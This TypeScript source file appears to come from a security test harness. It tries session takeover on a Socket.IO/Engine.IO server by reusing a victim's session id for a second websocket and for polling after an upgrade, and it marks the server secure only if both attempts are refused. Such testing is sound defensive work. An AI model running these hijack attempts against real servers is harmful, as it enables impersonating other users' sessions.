// Session takeover: an attacker who knows the Engine.IO id of a victim's session tries a
// second websocket (and the upgrade probe on it) for a websocket-only session, and polling
// with the id of a session that was upgraded. If the server lets the attacker in, the
// victim's next packet (the server's answer to the victim's `poke`) shows who receives it.

import { http, pollingPath } from "../clients/raw-http.js";
import { RawWs, WS_PATH } from "../clients/raw-ws.js";
import type { AttackContext, Family, FamilyResult } from "../family.js";
import { sleep } from "../family.js";

/**
 * A second websocket with the victim's sid: refused, or opened (then probed and upgraded).
 * If it got in, the attacker pokes: an answer carrying the victim's socket id proves the
 * attacker now speaks as the victim's socket.
 */
async function secondWebSocket(port: number): Promise<string> {
  const victim = await RawWs.joined(port);
  let attacker: RawWs;
  try {
    attacker = await RawWs.open(port, `${WS_PATH}&sid=${encodeURIComponent(victim.sid)}`);
  } catch (error) {
    victim.ws.destroy();
    return `refused (${error instanceof Error ? error.message.replace("HTTP/1.1 ", "") : String(error)})`;
  }
  attacker.text("2probe");
  const probed = await attacker.next((m) => m === "3probe", 2000).then(() => true, () => false);
  if (probed) attacker.text("5");
  await sleep(300);
  const from = attacker.messages.length;
  attacker.text('42["poke"]');
  const answer = await attacker.next((m) => typeof m === "string" && m.startsWith('42["secret"'), 2000, from).then(String, () => undefined);
  const victimCut = victim.ws.closeCode !== undefined || victim.ws.ended;
  victim.ws.destroy();
  attacker.destroy();
  if (answer === `42["secret","${victim.socketId}"]`) {
    return `TAKEN OVER: the attacker's websocket now carries the victim's socket ${victim.socketId}${victimCut ? " (the victim was cut off)" : ""}`;
  }
  return probed ? `opened and probed, then ${answer ?? "no answer"}` : "opened, then closed";
}

/** Polling with the id of a session that moved to websocket. */
async function pollingAfterUpgrade(port: number): Promise<string> {
  const answer = await http(port, "GET", "/socket.io/?EIO=4&transport=polling");
  const sid = (JSON.parse(answer.body.slice(1)) as { sid: string }).sid;
  const ws = await RawWs.open(port, `${WS_PATH}&sid=${encodeURIComponent(sid)}`);
  ws.text("2probe");
  await ws.next((m) => m === "3probe", 2000);
  ws.text("5");
  ws.text("40");
  await ws.next((m) => typeof m === "string" && m.startsWith("40"), 2000);
  const get = await http(port, "GET", pollingPath(sid), undefined, {}, 3000).catch((e: unknown) => ({ status: 0, body: String(e) }));
  const post = await http(port, "POST", pollingPath(sid), '42["poke"]', {}, 3000).catch((e: unknown) => ({ status: 0, body: String(e) }));
  ws.destroy();
  return `GET ${get.status}, POST ${post.status}`;
}

export const takeover: Family = {
  name: "takeover",
  title: "Session takeover (second websocket for a websocket-only session; polling after an upgrade)",
  async run(ctx: AttackContext): Promise<FamilyResult> {
    const second = await secondWebSocket(ctx.target.port);
    const after = await pollingAfterUpgrade(ctx.target.port);
    const secure = second.startsWith("refused") && after === "GET 400, POST 400";
    return {
      answer: second.startsWith("TAKEN OVER") ? "TAKEN OVER" : second.startsWith("refused") ? "refused" : second,
      asExpected: secure,
      details: [`second websocket for a websocket-only session: ${second}`, `polling with the id of an upgraded session: ${after}`],
      crashes: ctx.target.exited === undefined ? 0 : 1,
    };
  },
};
